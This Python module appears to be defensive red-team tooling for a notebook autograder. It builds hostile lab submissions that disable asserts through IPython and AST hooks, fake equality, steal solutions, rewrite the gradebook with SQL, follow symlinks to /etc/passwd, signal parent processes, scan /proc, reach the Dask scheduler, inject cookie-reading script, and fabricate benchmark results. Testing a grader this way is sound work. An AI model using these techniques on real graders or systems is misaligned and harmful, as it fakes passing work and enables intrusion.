"""Hostile submissions of lab01_measuring for the red-team batch: each one is the BLANK lab (an honest score of 0) plus
an attack on the grader, so any point it earns, any file it changes, any script or hidden test in its feedback and any
process it leaves is the attack succeeding.

Every attack is an ``Attack``: how to build its submission folder, the status it should end with, whether only the
sandbox can hold it (``needs_sandbox``: such attacks are not even written when bubblewrap is missing, so they cannot
harm the machine), and what it threatens. Attacks print ``SUCCESS_SIGNAL`` (built at run time, so a cell's source never
holds it) when a step they should not manage works; ``evidence`` lists other text that must not reach their outputs.

Attacks stay harmless even if they succeed: files they write are uniquely named markers (``marker(name)``) that the
test removes, children end by themselves within two minutes, fork bombs are a few dozen sleepers, signals go only to
the parent chain and never to a process whose command line names pytest.
"""
import json
import os
import pathlib
import secrets
import textwrap
from dataclasses import dataclass

import nbformat

from tests import submissions

LAB = "lab01_measuring"
ROOT = submissions.ROOT
SOLUTION = ROOT / "solutions" / LAB / f"{LAB}.ipynb"
RELEASE = ROOT / "labs" / LAB / f"{LAB}.ipynb"
RUN_ID = "rtm" + secrets.token_hex(4)
SUCCESS_SIGNAL = "broke-in:"
CANARY_VARIABLE = "SL_REDTEAM_CANARY"
CANARY_VALUE = "canary-" + secrets.token_hex(8)
GOOD, BLANK = ("aaa_good", "zzz_good"), ("aaa_blank", "zzz_blank")
FUNCTIONS = ("percentile_nearest_rank", "apdex_score", "downtime_minutes_per_year", "chain_availability",
             "error_budget", "pool_size", "latency_split", "mean_queue_depth", "hit_ratio_needed", "dashboard_rates")
VALUES = ("checkout_availability", "connections_in_use", "requests_per_second", "mean_latency_s", "slow_part", "low",
          "high", "littles_L_high")


def marker(name):
    """The unique text an attack puts in the files it writes and the processes it starts."""
    return f"{RUN_ID}_{name}"


@dataclass
class Attack:
    name: str
    kind: str
    build: object                 # build(folder, ctx) writes the submission
    status: str = "graded"        # the status it must end with (None: any)
    needs_sandbox: bool = False   # only bubblewrap can hold it
    threat: str = ""              # what it does if nothing holds it
    evidence: tuple = ()          # text that must not reach its outputs
    known_open: str = ""          # a weakness no grader change can close (the test says so with an xfail)
    message: str = ""             # what its row's message must say


ATTACKS = {}


def attack(kind, status="graded", needs_sandbox=False, threat="", evidence=(), known_open="", message=""):
    def register(function):
        name = function.__name__
        ATTACKS[name] = Attack(name, kind, function, status, needs_sandbox, threat, tuple(evidence), known_open,
                               message)
        return function
    return register


# ---------------------------------------------------------------------------------------------------------- builders
def blank_notebook():
    return nbformat.read(RELEASE, as_version=4)


def good_notebook():
    """The released lab with the instructor's answers pasted into the answer cells (what a perfect student submits)."""
    nb = blank_notebook()
    answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in nbformat.read(SOLUTION, as_version=4).cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = answers[grade_id]
    return nb


def points():
    """Autograded points of the lab: what a perfect submission scores before manual grading."""
    return sum(c.metadata["nbgrader"]["points"] for c in blank_notebook().cells
               if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade"))


def hidden_test_lines():
    """Code lines of the hidden tests (not their message strings, which a failing test shows by design)."""
    lines, hidden = [], False
    for cell in nbformat.read(SOLUTION, as_version=4).cells:
        for line in cell.source.splitlines():
            stripped = line.strip()
            if stripped == "### BEGIN HIDDEN TESTS":
                hidden = True
            elif stripped == "### END HIDDEN TESTS":
                hidden = False
            elif hidden and (stripped.startswith("sl.grading.") or " = " in stripped.split("(")[0]):
                lines.append(stripped)
    return lines


def preamble(name, ctx):
    return textwrap.dedent(f"""\
        import json, os, pathlib, signal, subprocess, sys, time
        MARK = {marker(name)!r}
        COURSE = pathlib.Path({str(ctx['course'])!r})
        LAB = {LAB!r}
        OTHER = {GOOD[0]!r}
        GRADER_TMP = pathlib.Path({str(ctx['tmp'])!r})
        def broke_in(what):
            print("broke" + "-in: " + str(what)[:300])
        """)


def write_notebook(folder, nb, name="{lab}.ipynb"):
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / name.format(lab=LAB))


def with_code(top="", end="", markdown="", answers=""):
    """A builder: the blank lab with ``top`` run before the answers (after the setup cell), ``answers`` in place of
    every answer cell (``GRADE_ID`` there is that cell's grade id) and ``end`` after the last cell."""
    def build(folder, ctx, name):
        nb = blank_notebook()
        if answers:
            for cell in nb.cells:
                meta = cell.metadata.get("nbgrader", {})
                if cell.cell_type == "code" and meta.get("solution"):
                    cell.source = preamble(name, ctx) + textwrap.dedent(answers).replace(
                        "GRADE_ID", repr(meta["grade_id"]))
        if top:
            nb.cells.insert(2, nbformat.v4.new_code_cell(preamble(name, ctx) + textwrap.dedent(top)))
        if end:
            nb.cells.append(nbformat.v4.new_code_cell(preamble(name, ctx) + textwrap.dedent(end)))
        if markdown:
            nb.cells.insert(2, nbformat.v4.new_markdown_cell(textwrap.dedent(markdown).replace("MARK", marker(name))))
        write_notebook(folder, nb)
    return build


def define_all(value_expression, function_body):
    """Code binding every answer value to ``value_expression`` and every answer function to ``function_body``."""
    lines = [f"def _answer(*args, **kwargs):\n    {function_body}"]
    lines += [f"globals()[{name!r}] = _answer" for name in FUNCTIONS]
    lines += [f"globals()[{name!r}] = {value_expression}" for name in VALUES]
    return "\n" + textwrap.indent("\n".join(lines), "    ") + "\n"   # joins an indented attack string


def _register(name, kind, build, **options):
    def builder(folder, ctx):
        return build(folder, ctx, name)
    builder.__name__ = name
    attack(kind, **options)(builder)


def _code_attack(name, kind, top="", end="", markdown="", answers="", **options):
    _register(name, kind, with_code(top, end, markdown, answers), **options)


# -------------------------------------------------------------------------------- neutering the tests in the kernel
_code_attack("input_transformers_cleanup", "verdict", top="""
    get_ipython().input_transformers_cleanup.append(
        lambda lines: ["pass\\n"] if any("sl.grading" in line or "assert" in line for line in lines) else lines)
    """)
_code_attack("input_transformers_post", "verdict", top="""
    get_ipython().input_transformers_post.append(
        lambda lines: ["pass\\n"] if any("sl.grading" in line or "assert" in line for line in lines) else lines)
    """)
_code_attack("ast_transformers", "verdict", top="""
    import ast
    class _NoRaise(ast.NodeTransformer):
        def visit_Raise(self, node):
            return ast.Pass()
        def visit_Assert(self, node):
            return ast.Pass()
        def visit_Call(self, node):
            self.generic_visit(node)
            checks = ("close", "equal", "between", "that", "number")
            if isinstance(node.func, ast.Attribute) and node.func.attr in checks:
                return ast.Constant(None)
            return node
    get_ipython().ast_transformers.append(_NoRaise())
    """)
_code_attack("post_run_cell_clears_errors", "verdict", top="""
    def _forget(result):
        result.error_in_exec = None
        result.error_before_exec = None
    get_ipython().events.register("post_run_cell", _forget)
    get_ipython()._showtraceback = lambda *args, **kwargs: None
    get_ipython().showtraceback = lambda *args, **kwargs: None
    """)
_code_attack("sys_modules_grading", "verdict", top="""
    import types
    _fake = types.ModuleType("scalelab.grading")
    for _check in ("close", "equal", "between", "that", "number", "columns"):
        vars(_fake)[_check] = lambda *args, **kwargs: None
    sys.modules["scalelab.grading"] = _fake
    vars(sys.modules["scalelab"])["grading"] = _fake
    """)
_code_attack("patched_grading_functions", "verdict", top="""
    import scalelab.grading as _g
    vars(_g).update({name: (lambda *args, **kwargs: None) for name in ("close", "equal", "between", "that", "number")})
    """)
_code_attack("float_reads_callers_frame", "verdict", answers="""
    class Liar(float):
        def __float__(self):
            frame = sys._getframe(1)
            while frame is not None:
                for key in ("expected", "high", "value"):
                    if isinstance(frame.f_locals.get(key), (int, float)):
                        return float(frame.f_locals[key])
                frame = frame.f_back
            return 0.0
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __lt__ = __le__ = __gt__ = __ge__ = __eq__
        __hash__ = float.__hash__
    liar = Liar(0.0)
    """ + define_all("liar", "return liar"))
_code_attack("equal_to_anything", "verdict", answers="""
    class Anything:
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __lt__ = __le__ = __gt__ = __ge__ = __eq__
        def __bool__(self):
            return True
        def __float__(self):
            return 0.0
        def __int__(self):
            return 0
        def __index__(self):
            return 0
        def __len__(self):
            return 2
        def __iter__(self):
            return iter([Anything(), Anything()])
        def __getitem__(self, key):
            return Anything()
        def __contains__(self, item):
            return True
        def __hash__(self):
            return 0
    anything = Anything()
    """ + define_all("anything", "return anything"))
_code_attack("set_custom_exc", "verdict", top="""
    get_ipython().set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
    """)
_code_attack("swapped_assertion_error", "verdict", top="""
    import builtins
    import scalelab.grading as _g
    _Harmless = type("AssertionError", (Warning,), {})
    vars(builtins)["AssertionError"] = _Harmless
    vars(_g)["AssertionError"] = _Harmless
    """)
_code_attack("sys_exit", "verdict", top="sys.exit(0)\n", answers=define_all("None", "raise SystemExit(0)"))
_code_attack("keyboard_interrupt", "verdict", top="raise KeyboardInterrupt\n",
             answers=define_all("None", "raise KeyboardInterrupt"))
_code_attack("sigstop_own_kernel", "verdict", top="os.kill(os.getpid(), signal.SIGSTOP)\n")


@attack("size", status="refused", threat="ten thousand cells to run")
def ten_thousand_cells(folder, ctx):
    nb = blank_notebook()
    nb.cells += [nbformat.v4.new_code_cell("pass") for _ in range(10_000)]
    write_notebook(folder, nb)


@attack("size", status="refused", threat="a 50 MB cell to store, copy and render")
def fifty_mb_cell(folder, ctx):
    nb = blank_notebook()
    nb.cells.append(nbformat.v4.new_code_cell("# " + "x" * (50 * 2**20)))
    write_notebook(folder, nb)


# ------------------------------------------------------------------------------------ reading what it should not
STEAL = """
    import scalelab
    STOLEN = {}
    candidates = [COURSE / "solutions" / LAB / f"{LAB}.ipynb",
                  pathlib.Path(scalelab.__file__).resolve().parents[1] / "solutions" / LAB / f"{LAB}.ipynb"]
    seen = 0
    for top in ("/work", "/home", "/srv", "/opt", "/root", "/mnt", "/var", "/tmp", "/usr/local"):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".git", ".venv", "node_modules", "__pycache__", "site-packages")]
            seen += 1
            if seen > 30000:
                break
            if folder.endswith("solutions/" + LAB) and LAB + ".ipynb" in files:
                candidates.append(pathlib.Path(folder) / (LAB + ".ipynb"))
    """
STEAL_FROM_OTHER = """
    STOLEN = {}
    candidates = [COURSE / "submitted" / OTHER / LAB / f"{LAB}.ipynb",
                  COURSE / "autograded" / OTHER / LAB / f"{LAB}.ipynb"]
    """
KEEP_STOLEN = """
    for path in candidates:
        try:
            source = json.loads(path.read_text())
        except (OSError, ValueError):
            continue
        broke_in(f"read {path}")
        STOLEN.update({cell["metadata"]["nbgrader"]["grade_id"]: "".join(cell["source"]) for cell in source["cells"]
                       if cell["metadata"].get("nbgrader", {}).get("solution")})
        break
    """
RUN_STOLEN = """
    get_ipython().run_cell(STOLEN.get(GRADE_ID, "raise NotImplementedError()"))
    """
_code_attack("solution_cells", "read", top=STEAL + KEEP_STOLEN, answers=RUN_STOLEN, needs_sandbox=True,
             threat="read the instructor's solutions and run them for full marks")
_code_attack("other_students_answers", "read", top=STEAL_FROM_OTHER + KEEP_STOLEN, answers=RUN_STOLEN,
             needs_sandbox=True, threat="copy another student's answers")
_code_attack("gradebook_hidden_tests", "read", needs_sandbox=True, threat="print the hidden tests into its feedback",
             end="""
    import sqlite3
    try:
        db = sqlite3.connect(f"file:{COURSE / 'gradebook.db'}?mode=ro", uri=True)
        for (source,) in db.execute("select source from source_cell"):
            broke_in("gradebook")
            print(source)
    except sqlite3.Error as exc:
        print("no gradebook:", exc)
    try:
        print((COURSE / "solutions" / LAB / f"{LAB}.ipynb").read_text())
        broke_in("solutions")
    except OSError as exc:
        print("no solutions:", exc)
    """)


# ------------------------------------------------------------------------------------ writing what it should not
_code_attack("gradebook_scores_and_triggers", "write", needs_sandbox=True,
             threat="raise its own scores, zero other students', add triggers to the gradebook", end="""
    import sqlite3
    try:
        db = sqlite3.connect(f"file:{COURSE / 'gradebook.db'}?mode=rw", uri=True, timeout=2)
        db.execute("update grade set manual_score = 0 where id in (select grade.id from grade)")
        db.execute(f"create trigger {MARK} after update on grade begin update grade set auto_score = 0; end")
        db.commit()
        broke_in("gradebook written")
    except sqlite3.Error as exc:
        print("gradebook:", exc)
    """)
_code_attack("gradebook_test_cells", "write", needs_sandbox=True,
             threat="replace the stored test cells nbgrader restores with `pass`", end="""
    import sqlite3
    try:
        db = sqlite3.connect(f"file:{COURSE / 'gradebook.db'}?mode=rw", uri=True, timeout=2)
        db.execute("update source_cell set source = 'pass'")
        db.execute("update grade_cell set max_score = 100")
        db.commit()
        broke_in("test cells written")
    except sqlite3.Error as exc:
        print("gradebook:", exc)
    """)
_code_attack("gradebook_exclusive_lock", "write", needs_sandbox=True,
             threat="lock the gradebook so that recording the batch's grades fails", top="""
    import fcntl, sqlite3
    try:
        _lock_db = sqlite3.connect(f"file:{COURSE / 'gradebook.db'}?mode=rw", uri=True, timeout=1,
                                   isolation_level=None)
        _lock_db.execute("begin exclusive")
        _lock_file = open(COURSE / "gradebook.db", "rb")
        fcntl.flock(_lock_file, fcntl.LOCK_EX)
        broke_in("gradebook locked")
        time.sleep(10)
    except (OSError, sqlite3.Error) as exc:
        print("lock:", exc)
    """)
_code_attack("other_students_files", "write", needs_sandbox=True, threat="change another student's submission", end="""
    for folder in (COURSE / "submitted" / OTHER / LAB, COURSE / "autograded" / OTHER / LAB, COURSE / "submitted"):
        if not folder.is_dir():   # a private, empty view of the course: nothing real to write into
            continue
        try:
            (folder / f"{MARK}.txt").write_text("changed by another student")
            broke_in(f"wrote into {folder}")
        except OSError as exc:
            print("write:", exc)
    try:
        blank = (COURSE / "labs" / LAB / f"{LAB}.ipynb").read_text()   # fails where the course is hidden
        (COURSE / "submitted" / OTHER / LAB / f"{LAB}.ipynb").write_text(blank)
        broke_in("replaced another student's notebook")
    except OSError as exc:
        print("write:", exc)
    """)
_code_attack("package_source", "write", needs_sandbox=True,
             threat="plant code in the course package the grader imports", end="""
    import site, scalelab
    for folder in [pathlib.Path(scalelab.__file__).parent] + [pathlib.Path(p) for p in site.getsitepackages()]:
        try:
            (folder / f"{MARK}.pth").write_text("# a marker: no code\\n")
            broke_in(f"wrote into {folder}")
        except OSError as exc:
            print("write:", exc)
    """)
_code_attack("config_and_solutions", "write", needs_sandbox=True,
             threat="rewrite nbgrader_config.py (code the grader runs) and the solutions", end="""
    for path in (COURSE / "nbgrader_config.py", COURSE / "solutions" / LAB / f"{MARK}.txt"):
        if not path.parent.is_dir() or path.name.endswith(".py") and not path.exists():
            continue   # a private, empty view of the course
        try:
            with open(path, "a") as out:
                out.write(f"\\n# {MARK}\\n")
            broke_in(f"wrote {path}")
        except OSError as exc:
            print("write:", exc)
    """)
_code_attack("home_startup_file", "write", needs_sandbox=True,
             threat="plant an IPython startup file the instructor's next session runs", end="""
    import pwd
    for home in {pwd.getpwuid(os.getuid()).pw_dir, os.path.expanduser("~")}:
        startup = pathlib.Path(home) / ".ipython" / "profile_default" / "startup"
        try:
            startup.mkdir(parents=True, exist_ok=True)
            (startup / f"00-{MARK}.py").write_text("# a marker: no code\\n")   # checked from outside
        except OSError as exc:
            print("write:", exc)
    """)


# ----------------------------------------------------------------------------------------------- escaping the kernel
LATE_CHILD = """
import os, pathlib, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
mark, course = sys.argv[1], pathlib.Path(sys.argv[2])
end = time.monotonic() + 90
while time.monotonic() < end:
    for path in (course / f"{mark}-late.txt", course / "submitted" / f"{mark}-late.txt"):
        try:
            path.write_text("written after grading")
        except OSError:
            pass
    time.sleep(0.5)
"""
_code_attack("setsid_child_tampers_later", "escape", needs_sandbox=True,
             threat="start a child that outlives the kernel and tampers with the course after grading", top=f"""
    subprocess.Popen([sys.executable, "-c", {LATE_CHILD!r}, MARK, str(COURSE)], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    """)
SIGNAL_PARENTS = """
    def _parents():
        pid = os.getppid()
        while pid > 0:
            try:
                cmdline = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
                parent = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                return
            if b"pytest" not in cmdline:   # the test itself is never signalled, even when the attack works
                yield pid
            if pid == 1:
                return
            pid = parent
    for _pid in list(_parents()):
        try:
            os.kill(_pid, SIGNAL)
            print("signalled", _pid)
        except OSError as exc:
            print("signal:", exc)
    time.sleep(2)
    """
_code_attack("sigkill_parents", "escape", needs_sandbox=True, threat="kill the grading process (and the batch)",
             top="SIGNAL = signal.SIGKILL\n" + textwrap.dedent(SIGNAL_PARENTS))
_code_attack("sigstop_parents", "escape", needs_sandbox=True, threat="freeze the grading process (and the batch)",
             top="SIGNAL = signal.SIGSTOP\n" + textwrap.dedent(SIGNAL_PARENTS))


@attack("escape", status="flagged", threat="a flagged submission's child hangs the command before the zero is written")
def flagged_child_hangs(folder, ctx):
    nb = blank_notebook()
    code = preamble("flagged_child_hangs", ctx) + textwrap.dedent("""
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", MARK], start_new_session=True)
        import scalelab as sl
        sl.grading.close = lambda *args, **kwargs: None
        """)
    nb.cells.insert(2, nbformat.v4.new_code_cell(code))
    write_notebook(folder, nb)


# ------------------------------------------------------------------------------------------------ the files themselves
def _symlink_build(target_of):
    def build(folder, ctx, name):
        folder.mkdir(parents=True, exist_ok=True)
        target, link = target_of(ctx)
        if link != f"{LAB}.ipynb":
            write_notebook(folder, blank_notebook())
        os.symlink(target, folder / link)
    return build


_register("symlink_other_student", "files", _symlink_build(
    lambda ctx: (ctx["course"] / "submitted" / GOOD[0] / LAB / f"{LAB}.ipynb", f"{LAB}.ipynb")), status="refused",
    threat="be graded as another student's notebook")
_register("symlink_solution", "files", _symlink_build(
    lambda ctx: (ctx["course"] / "solutions" / LAB / f"{LAB}.ipynb", f"{LAB}.ipynb")), status="refused",
    threat="be graded as the solution (and have the repair step write through the link)")
_register("symlink_gradebook", "files", _symlink_build(
    lambda ctx: (ctx["course"] / "gradebook.db", "gradebook.db")), status="refused",
    threat="have the gradebook copied into its autograded and feedback folders")
_register("symlink_etc_passwd", "files", _symlink_build(lambda ctx: ("/etc/passwd", "passwd.txt")), status="refused",
          threat="have /etc/passwd copied into its feedback")


# ---------------------------------------------------------------------------------------------- script in feedback
_code_attack("script_output", "script", end="""
    from IPython.display import HTML, display
    display(HTML(f"<script>window.{MARK} = document.cookie</script>"))
    """)
_code_attack("img_onerror_output", "script", end="""
    from IPython.display import HTML, display
    display(HTML(f'<img src="x" onerror="window.{MARK} = document.cookie">'))
    display(HTML(f'<a href="javascript:window.{MARK}=1">grades</a><svg onload="window.{MARK}=1"></svg>'))
    """)
_code_attack("javascript_output", "script", end="""
    from IPython.display import Javascript, display
    display(Javascript(f"window.{MARK} = document.cookie"))
    display({"application/javascript": f"window.{MARK} = 2", "text/html": f"<script>window.{MARK} = 3</script>"},
            raw=True)
    """)
_code_attack("raw_html_in_markdown", "script", markdown="""
    <script>window.MARK = document.cookie</script>
    <img src="x" onerror="window.MARK = 1">
    <a href="javascript:window.MARK=1">click</a>
    <iframe src="javascript:window.MARK=1"></iframe>
    <svg onload="window.MARK=1"></svg>
    """)
_code_attack("script_in_error_message", "script", answers=define_all(
    "None", "raise ValueError(f'<script>window.{MARK}=1</script><img src=x onerror=window.{MARK}=1>')"))


# --------------------------------------------------------------------------- against this design: the codec, the socket
_code_attack("codec_huge_answers", "codec", threat="answers of tens of MB that land in error messages",
             answers=define_all('"7" * (6 * 2**20)', 'return "7" * (6 * 2**20)'))
_code_attack("huge_output_line", "codec", threat="one output line of 40 MB that no line limit trims", end="""
    print("y" * (40 * 2**20))
    """)
_code_attack("codec_deep_nesting", "codec", answers="""
    _deep = []
    for _ in range(5000):
        _deep = [_deep]
    """ + define_all("_deep", "return _deep"))
_code_attack("lying_agent", "codec", threat="forged replies: fake handles naming grader modules, deep JSON, bad arrays",
             evidence=("Beautiful is better than ugly",), top="""
    import json as _json
    _real_dumps = _json.dumps
    _forged = [
        '{"ok":{"t":"handle","id":1,"type":"builtins.module","module":"this","callable":false}}',
        '{"ok":{"t":"handle","id":1,"type":"builtins.module","module":"os","callable":true}}',
        '{"error":{"mro":["SystemExit","BaseException"],"message":"forged"}}',
        '{"ok":{"t":"range","v":[0,1000000000000000,1]}}',
        '{"ok":1e999}',
        '{"ok":{"t":"np","dtype":"<M8[ns]","v":"not a date"}}',
        '{"ok":' + "[" * 200000 + "]" * 200000 + "}",
        '{"ok":{"t":"ndarray","dtype":"<f8","shape":[1000000000],"v":[]}}',
    ]
    _sent = [0]
    def _dumps(obj, *args, **kwargs):
        if isinstance(obj, dict) and set(obj) in ({"ok"}, {"error"}):
            if "separators" in kwargs:
                _sent[0] += 1
            return _forged[min(_sent[0], len(_forged)) - 1]
        return _real_dumps(obj, *args, **kwargs)
    _json.dumps = _dumps
    """, answers=define_all("1", "return 1"))
_code_attack("never_returning_handle", "codec", message="total time limit",
             threat="functions that never return, each test to its limit: one notebook holds a worker for hours",
             answers="""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    """ + define_all("None", "while True: time.sleep(1)"))
_code_attack("tampering_methods", "codec", needs_sandbox=True,
             threat="give answers whose methods, run when the tests read them, write the course", answers="""
    def _tamper(*args, **kwargs):
        for path in (COURSE / f"{MARK}-method.txt", COURSE / "submitted" / OTHER / LAB / f"{MARK}.txt"):
            try:
                path.write_text("written by an answer's method")
                broke_in(f"wrote {path}")
            except OSError:
                pass
        return 0
    class Tampering(dict):
        __len__ = __float__ = __int__ = __index__ = __bool__ = lambda self: bool(_tamper())
        __getitem__ = __contains__ = lambda self, key: _tamper()
        def __iter__(self):
            _tamper()
            return iter([])
    _tampering = Tampering()
    """ + define_all("_tampering", "return _tampering"))
_code_attack("judge_socket", "codec", threat="talk to the grader's socket out of turn: garbage, huge frames, floods",
             top="""
    import socket, struct, threading
    def _pester():
        end = time.monotonic() + 60
        held = []
        while time.monotonic() < end:
            try:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect(".judge.sock")
                s.sendall(struct.pack("!I", 2**32 - 1) + b"garbage")
                held.append(s)
                if len(held) > 200:
                    held.pop(0).close()
            except OSError:
                time.sleep(0.01)
    threading.Thread(target=_pester, daemon=True).start()
    """)
_code_attack("other_kernels_and_staging", "codec", needs_sandbox=True,
             threat="find another student's kernel or write judged notebooks into the coordinator's staging", end="""
    import glob
    own = os.getcwd()
    for top in ("/tmp", str(GRADER_TMP)):
        for path in glob.glob(f"{top}/sl-grade-*/lab/.kernel.json") + glob.glob(f"{top}/sl-grade-*/lab/.judge.sock"):
            if not path.startswith(own):
                broke_in(f"found {path}")
        for staging in glob.glob(f"{top}/sl-judged-*"):
            broke_in(f"found the staging {staging}")
            try:
                (pathlib.Path(staging) / f"{MARK}.txt").write_text("x")
            except OSError:
                pass
    """)
_code_attack("redefine_given_code", "verdict",
             threat="swap the lab's imports the tests use (sl, np, math, pd, the benchmark)", answers="""
    class _Lenient:
        def __getattr__(self, name):
            return _Lenient()
        def __call__(self, *args, **kwargs):
            return None
    for _name in ("sl", "np", "math", "pd", "LoopbackService", "open_loop"):
        globals()[_name] = _Lenient()
    """)
_code_attack("proc_of_the_grader", "codec", needs_sandbox=True,
             threat="read the grader's environment and files in /proc", evidence=(CANARY_VALUE,), end=f"""
    for _path in GRADER_TMP.glob("dask-scratch-space/*"):
        broke_in(f"the grader's Dask folder {{_path}}")
    for _entry in pathlib.Path("/proc").iterdir():
        if not _entry.name.isdigit():
            continue
        try:
            _env = (_entry / "environ").read_bytes()
            _cmd = (_entry / "cmdline").read_bytes()
        except OSError:
            continue
        if {CANARY_VARIABLE!r}.encode() in _env:
            broke_in(f"grader environment in /proc/{{_entry.name}}/environ")
            print(_env.split(b"\\0"))
        if b"distributed.cli" in _cmd or b"pytest" in _cmd.split(b"\\0")[0]:
            broke_in(f"grader process /proc/{{_entry.name}}")
        try:
            if (_entry / "root" / str(COURSE).lstrip("/") / "gradebook.db").exists():
                broke_in(f"course through /proc/{{_entry.name}}/root")
        except OSError:
            pass
    """)
_code_attack("grader_ports", "codec", needs_sandbox=True,
             threat="find the Dask scheduler on 127.0.0.1 and run code in the grader's workers", end="""
    import socket
    _ports = {8786, 8787}
    for _table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for _line in pathlib.Path(_table).read_text().splitlines()[1:]:
                _fields = _line.split()
                if _fields[3] == "0A":   # LISTEN
                    _ports.add(int(_fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    _open = []
    for _port in sorted(_ports):
        with socket.socket() as _s:
            _s.settimeout(0.5)
            if _s.connect_ex(("127.0.0.1", _port)) == 0 and _s.getsockname() != _s.getpeername():
                _open.append(_port)
    for _port in _open[:5]:
        try:
            from distributed import Client
            with Client(f"tcp://127.0.0.1:{_port}", timeout=2) as _client:
                _client.run(lambda: open(str(COURSE / f"{MARK}-dask.txt"), "w").write("x"))
                broke_in(f"ran code in the grader's workers via {_port}")
        except Exception as exc:
            print("dask:", type(exc).__name__)
    """)
_code_attack("fill_the_disk", "resources", needs_sandbox=True, threat="fill the grader's disk and /tmp", end="""
    _chunk = b"z" * 2**22
    for _target in ("filler.bin", "/tmp/filler.bin", ".home/filler.bin"):
        try:
            with open(_target, "wb") as _out:
                for _ in range(16):
                    _out.write(_chunk)
        except OSError as exc:
            print("disk:", exc)
    """)
_code_attack("bounded_fork_bomb", "resources", needs_sandbox=True,
             threat="leave dozens of processes behind in sessions of their own", top="""
    _kids = []
    for _ in range(30):
        try:
            _kids.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", MARK],
                                          start_new_session=True, env={"RT_MARK": MARK}))
        except OSError:
            break
    for _ in range(10):
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", MARK])
    """)
_code_attack("fabricated_measurement", "lab", known_open=(
    "Part 11 grades a measurement by its internal consistency: made-up numbers that obey the relations pass; no "
    "grader can tell them from a real run without running the benchmark itself"), answers="""
    low = {"p50_ms": 5.0, "p95_ms": 6.0, "p99_ms": 7.0, "throughput_rps": 50.0, "sampled_in_flight": 0.3,
           "mean_ms": 6.0, "error_rate": 0.0, "ok": 65, "offered_rps": 50.0}
    high = {"p50_ms": 9.0, "p95_ms": 20.0, "p99_ms": 30.0, "throughput_rps": 150.0, "sampled_in_flight": 1.5,
            "mean_ms": 10.0, "error_rate": 0.0, "ok": 180, "offered_rps": 150.0}
    littles_L_high = 1.5
    """)


# ------------------------------------------------------------------------------------------------------- the batch
def write_batch(course, tmp, sandboxed):
    """Controls and every attack the grader here can be asked to hold; returns {student: Attack or None}."""
    course = pathlib.Path(course)
    ctx = {"course": course, "tmp": pathlib.Path(tmp)}
    batch = {}
    for student in GOOD:
        write_notebook(course / "submitted" / student / LAB, good_notebook())
        batch[student] = None
    for student in BLANK:
        write_notebook(course / "submitted" / student / LAB, blank_notebook())
        batch[student] = None
    for name, item in ATTACKS.items():
        if item.needs_sandbox and not sandboxed:
            continue
        item.build(course / "submitted" / name / LAB, ctx)
        batch[name] = item
    return batch


def outputs_text(notebook_path):
    """All output text of a graded notebook (not its sources, which hold the attacks' code)."""
    cells = json.loads(pathlib.Path(notebook_path).read_text(encoding="utf-8"))["cells"]
    parts = []
    for cell in cells:
        for output in cell.get("outputs", []):
            parts.append(json.dumps({k: v for k, v in output.items() if k != "metadata"}))
    return "\n".join(parts)
